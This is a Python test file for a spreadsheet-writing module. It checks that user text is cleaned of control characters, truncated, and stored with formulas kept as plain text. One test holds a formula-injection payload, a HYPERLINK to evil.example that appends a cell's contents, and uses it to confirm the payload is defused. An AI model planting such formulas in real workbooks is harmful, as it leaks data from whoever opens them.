"""server.spreadsheets: what people typed goes into a workbook as plain, writable text."""

from __future__ import annotations

from datetime import date
from io import BytesIO

from openpyxl import Workbook, load_workbook

from server.spreadsheets import MAX_CELL_CHARS, safe_text, write_cell


def written(value: object):  # type: ignore[no-untyped-def]
    """The cell A1 after ``value`` went through write_cell, a save and a load."""
    book = Workbook()
    write_cell(book.active, 1, 1, value)
    out = BytesIO()
    book.save(out)
    return load_workbook(BytesIO(out.getvalue())).active["A1"]


def test_control_characters_are_dropped() -> None:
    assert safe_text("a\x00b\x01c\x08d\x1fe") == "abcde"


def test_vertical_tab_and_form_feed_become_line_breaks() -> None:
    assert safe_text("一\x0b二\x0c三") == "一\n二\n三"


def test_tabs_and_line_breaks_stay() -> None:
    assert safe_text("一\t二\r\n三") == "一\t二\r\n三"


def test_lone_surrogates_are_dropped() -> None:
    assert safe_text("供\ud800水\udfff") == "供水"


def test_text_longer_than_a_cell_is_cut() -> None:
    assert len(safe_text("字" * (MAX_CELL_CHARS + 10))) == MAX_CELL_CHARS


def test_a_control_character_does_not_break_the_workbook() -> None:
    assert written("三户\x01无法供水").value == "三户无法供水"


def test_a_formula_is_written_as_text() -> None:
    cell = written('=HYPERLINK("http://evil.example/?"&A1,"点击查看")')
    assert cell.data_type == "s"
    assert cell.value == '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_leading_formula_characters_get_the_quote_prefix() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert written(text).quotePrefix, text


def test_ordinary_text_gets_no_quote_prefix() -> None:
    assert not written("长者食堂").quotePrefix


def test_an_error_code_is_written_as_text() -> None:
    cell = written("#N/A")
    assert (cell.data_type, cell.value) == ("s", "#N/A")


def test_numbers_and_dates_keep_their_types() -> None:
    assert written(12.5).data_type == "n"
    assert written(date(2023, 7, 31)).is_date
